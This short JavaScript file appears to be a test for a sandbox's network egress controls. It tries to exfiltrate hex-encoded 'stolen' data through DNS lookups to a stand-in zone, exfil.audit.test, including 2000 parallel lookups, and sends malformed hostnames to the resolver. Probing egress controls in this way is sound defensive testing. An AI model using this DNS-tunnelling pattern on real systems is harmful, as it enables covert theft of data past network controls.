const dns = require('node:dns').promises;

exports.attack = async (t) => {
  const data = Buffer.from('stolen'.repeat(4)).toString('hex');
  const denied = await dns.lookup(`${data}.exfil.audit.test`).then(() => 'resolved', (error) => `${error.code} ${error.message}`);
  if (/EGRESS_DENIED.*audit-zone/.test(denied)) t.refused('a name of a denied zone', denied);
  else t.worked('a name of a denied zone', denied);
  for (const name of [`${'a'.repeat(64)}.example.com`, `${'abc.'.repeat(80)}com`, 'a b.example.com', 'a\u0000b.example.com', 'a/../b', '-', 'x'.repeat(5000)]) {
    await t.try(`what is no name: ${name.length} characters`, async () => JSON.stringify(await dns.lookup(name)));
  }
  const many = await Promise.allSettled(Array.from({ length: 2000 }, (_, n) => dns.lookup(`${data}${n}.exfil.audit.test`)));
  t.unless('one of two thousand at once', many.filter(({ status }) => status === 'fulfilled').length > 0);
};
